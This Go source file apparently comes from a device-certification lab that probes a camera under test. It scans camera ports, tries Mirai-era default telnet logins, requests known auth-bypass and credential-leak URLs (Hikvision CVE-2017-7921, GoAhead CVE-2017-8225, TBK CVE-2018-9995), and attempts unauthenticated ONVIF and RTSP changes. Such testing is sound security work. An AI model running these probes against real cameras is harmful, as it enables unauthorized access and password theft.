package cases

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/punchlab/punchlab/lab"
	"github.com/punchlab/punchlab/lab/certify/stage"
)

// doorPorts are where cameras are known to be configured by TCP: web pages, ONVIF, RTSP, telnet.
var doorPorts = []uint16{23, 80, 81, 88, 443, 554, 2020, 2323, 5000, 8000, 8080, 8081, 8443, 8554, 8899, 9000, 9527, 10554, 34567, 37777}

// knownDoors tries by what is open those doors that cameras are known for, without credentials and with everybody's.
func knownDoors(ctx context.Context, s *stage.Stage, x *stage.Set, camera *stage.Camera) (bad string, err error) {
	m := x.Host("on-path")
	i := slices.IndexFunc(camera.Addrs(), netip.Addr.Is4)
	if i < 0 {
		return "", fmt.Errorf("try the camera's doors: it has no IPv4 address among %v", camera.Addrs())
	}
	ports := slices.Clone(doorPorts)
	for _, p := range s.Decl().Bounds.Ports {
		if p.Protocol == "tcp" && !slices.Contains(ports, p.Number) {
			ports = append(ports, p.Number)
		}
	}
	k := &knocker{s: s, m: m}
	for _, port := range ports {
		at := netip.AddrPortFrom(camera.Addrs()[i], port).String()
		first, open := k.listen(ctx, at)
		if !open {
			continue
		}
		s.Note("tcp/%d is open, and says %.60q", port, first)
		for _, door := range []func(context.Context, string) string{k.shell, k.page, k.onvif, k.rtsp} {
			if bad := door(ctx, at); bad != "" {
				return fmt.Sprintf("tcp/%d: %s", port, bad), nil
			}
		}
	}
	return "", ctx.Err()
}

// knocker is a host that tries doors.
type knocker struct {
	s *stage.Stage
	m *lab.Machine
}

// tried counts a try at a door that was open.
func (k *knocker) tried(in bool) {
	k.s.Saw("tries", 1)
	k.s.Try(in)
}

const (
	doorOpens = time.Second            // for a connection
	doorSays  = 300 * time.Millisecond // until what it says by itself is over
)

// listen connects, and hears what is said unasked.
func (k *knocker) listen(ctx context.Context, at string) (said []byte, open bool) {
	c := k.dial(ctx, at)
	if c == nil {
		return nil, false
	}
	defer c.Close()
	return hear(c), true
}

func (k *knocker) dial(ctx context.Context, at string) net.Conn {
	short, cancel := context.WithTimeout(ctx, doorOpens)
	defer cancel()
	c, err := k.m.DialContext(short, "tcp", at)
	if err != nil {
		return nil
	}
	return c
}

// hear reads what is said until it is quiet.
func hear(c net.Conn) (said []byte) {
	b := make([]byte, 4096)
	for len(said) < 1<<16 {
		_ = c.SetReadDeadline(time.Now().Add(doorSays))
		n, err := c.Read(b)
		said = append(said, b[:n]...)
		if err != nil {
			return said
		}
	}
	return said
}

// logins are a few of those that Mirai had in 2016, and none.
var logins = [][]string{{}, {"root", ""}, {"admin", ""}, {"root", "xc3511"}, {"root", "vizxv"}, {"admin", "admin"}, {"root", "123456"}, {"root", "root"}}

// shell tries telnet: a prompt is a success.
func (k *knocker) shell(ctx context.Context, at string) string {
	first, _ := k.listen(ctx, at)
	if len(first) == 0 {
		return "" // it waits for a request
	}
	for _, login := range logins {
		c := k.dial(ctx, at)
		if c == nil {
			return ""
		}
		said := hear(c)
		for _, word := range append(slices.Clone(login), "") {
			_, _ = c.Write([]byte(word + "\r\n"))
			said = hear(c)
		}
		_ = c.Close()
		prompt := bytes.TrimRight(said, " \r\n")
		in := bytes.HasSuffix(prompt, []byte("#")) || bytes.HasSuffix(prompt, []byte("$"))
		k.tried(in)
		k.s.Record(map[string]any{"at": at, "door": "telnet", "login": login, "in": in})
		if in {
			return fmt.Sprintf("a shell opened to the login %q", login)
		}
	}
	return ""
}

// pages are those that have given out cameras' settings and passwords, each by its CVE or by the cameras that have it.
var pages = []struct{ target, header, what string }{
	{"/System/configurationFile?auth=YWRtaW46MTEK", "", "Hikvision, CVE-2017-7921"},
	{"/Security/users?auth=YWRtaW46MTEK", "", "Hikvision, CVE-2017-7921"},
	{"/system.ini?loginuse&loginpas", "", "GoAhead cameras, CVE-2017-8225"},
	{"/get_params.cgi?loginuse&loginpas", "", "GoAhead cameras, CVE-2017-8225"},
	{"/device.rsp?opt=user&cmd=list", "Cookie: uid=admin", "TBK DVR, CVE-2018-9995"},
	{"/current_config/passwd", "", "Dahua, 2017"},
	{"/cgi-bin/hi3510/param.cgi?cmd=getuser", "", "HiSilicon cameras"},
	{"/cgi-bin/users.cgi?action=getUsers", "", "many"},
	{"/cgi-bin/magicBox.cgi?action=getSystemInfo", "", "Dahua"},
	{"/axis-cgi/param.cgi?action=list", "", "Axis"},
	{"/ISAPI/Security/users", "", "Hikvision"},
}

// page asks for such pages: one that is given, and is not what a page is that there is not, is a setting given out.
func (k *knocker) page(ctx context.Context, at string) string {
	nothing, err := exchange(ctx, k.m, at, line{method: "GET", target: "/punchlab-" + strconv.FormatUint(k.s.Seed(9), 36)})
	if err != nil || nothing.code == 0 {
		return "" // no HTTP
	}
	for _, p := range pages {
		l := line{method: "GET", target: p.target}
		if p.header != "" {
			l.headers = []string{p.header}
		}
		got, err := exchange(ctx, k.m, at, l)
		if err != nil {
			return ""
		}
		given := got.code/100 == 2 && got.body != nothing.body && !strings.Contains(strings.ToLower(got.body), "<html")
		k.tried(given)
		k.s.Record(map[string]any{"at": at, "door": "HTTP", "target": p.target, "code": got.code, "given": given})
		if given {
			return fmt.Sprintf("%s (%s) was given to nobody in particular, %d bytes", p.target, p.what, len(got.body))
		}
	}
	return ""
}

// onvif asks for what ONVIF's core specification lets an administrator alone do.
func (k *knocker) onvif(ctx context.Context, at string) string {
	for _, c := range [][2]string{{"SetHostname", "<Name>punchlab</Name>"}, {"GetUsers", ""}} {
		call, body := c[0], c[1]
		text := `<?xml version="1.0"?><s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><` + call +
			` xmlns="http://www.onvif.org/ver10/device/wsdl">` + body + `</` + call + `></s:Body></s:Envelope>`
		got, err := exchange(ctx, k.m, at, line{
			method: "POST", target: "/onvif/device_service", headers: []string{"Content-Type: application/soap+xml; charset=utf-8"}, body: text,
		})
		if err != nil || got.code == 0 {
			return ""
		}
		done := got.code/100 == 2 && strings.Contains(got.body, call+"Response")
		k.tried(done)
		k.s.Record(map[string]any{"at": at, "door": "ONVIF", "call": call, "code": got.code, "done": done})
		if done {
			return "ONVIF's " + call + " was done for nobody in particular"
		}
	}
	return ""
}

// rtsp sets a parameter that there is, and one that there is not: who takes the first alone has changed something.
func (k *knocker) rtsp(ctx context.Context, at string) string {
	ask := func(parameter string) string {
		c := k.dial(ctx, at)
		if c == nil {
			return ""
		}
		defer c.Close()
		body := parameter + "\r\n"
		fmt.Fprintf(c, "SET_PARAMETER rtsp://%s/ RTSP/1.0\r\nCSeq: 1\r\nContent-Type: text/parameters\r\nContent-Length: %d\r\n\r\n%s",
			at, len(body), body)
		first, _, _ := strings.Cut(string(hear(c)), "\r\n")
		return first
	}
	real, unreal := ask("volume: 11"), ask("punchlab: 11")
	if real == "" || ctx.Err() != nil {
		return ""
	}
	done := strings.HasPrefix(real, "RTSP/1.0 200") && real != unreal
	k.tried(done)
	k.s.Record(map[string]any{"at": at, "door": "RTSP", "answer": real, "to nonsense": unreal, "done": done})
	if done {
		return "RTSP's SET_PARAMETER set the volume for nobody in particular"
	}
	return ""
}
